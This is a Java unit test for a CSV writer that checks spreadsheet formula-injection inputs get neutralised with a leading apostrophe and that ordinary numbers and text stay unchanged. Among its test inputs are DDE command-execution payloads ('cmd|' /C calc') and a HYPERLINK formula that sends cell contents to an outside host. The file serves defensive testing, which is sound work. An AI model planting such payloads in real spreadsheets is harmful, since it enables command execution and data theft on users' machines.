package dev.geminibatch.extension;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
  private final Csv csv = new Csv();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"http://x/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\tx",
        "\n=1",
        " =1",
        "\u00A0=1",
        "\uFEFF=1",
        "\u200B=1",
        "\u0000=1",
        "\"=1",
        "'=1",
        "\u201C=1",
        "\" '=1",
        "\uFF1D1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF201",
        "\uFE661",
        "\u22121+1",
        "-",
        "-5 apples",
        "--5",
        "=",
        "+"
      })
  void what_a_spreadsheet_would_take_for_a_formula_is_text(String cell) {
    for (String row : new String[] {csv.row(List.of(cell, "x")), csv.row(List.of("x", cell))}) {
      assertThat(row).containsPattern("(^|,|\")'");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-5",
        "+5",
        "-0.5",
        "-1e9",
        "-.5",
        "+1,234.5",
        "-5%",
        "5",
        "a=b",
        "x - y",
        "a@b.c",
        "it's",
        "",
        "\u00E4"
      })
  void numbers_and_other_texts_stay_as_they_are(String cell) {
    assertThat(csv.row(List.of("k", cell)).replace("\"", "")).isEqualTo("k," + cell + "\r\n");
  }

  @Test
  void what_is_no_text_stays_as_it_is() {
    assertThat(csv.row(List.of(-5, true))).isEqualTo("-5,true\r\n");
    assertThat(csv.titles("key, text")).isEqualTo("key,text\r\n");
  }
}
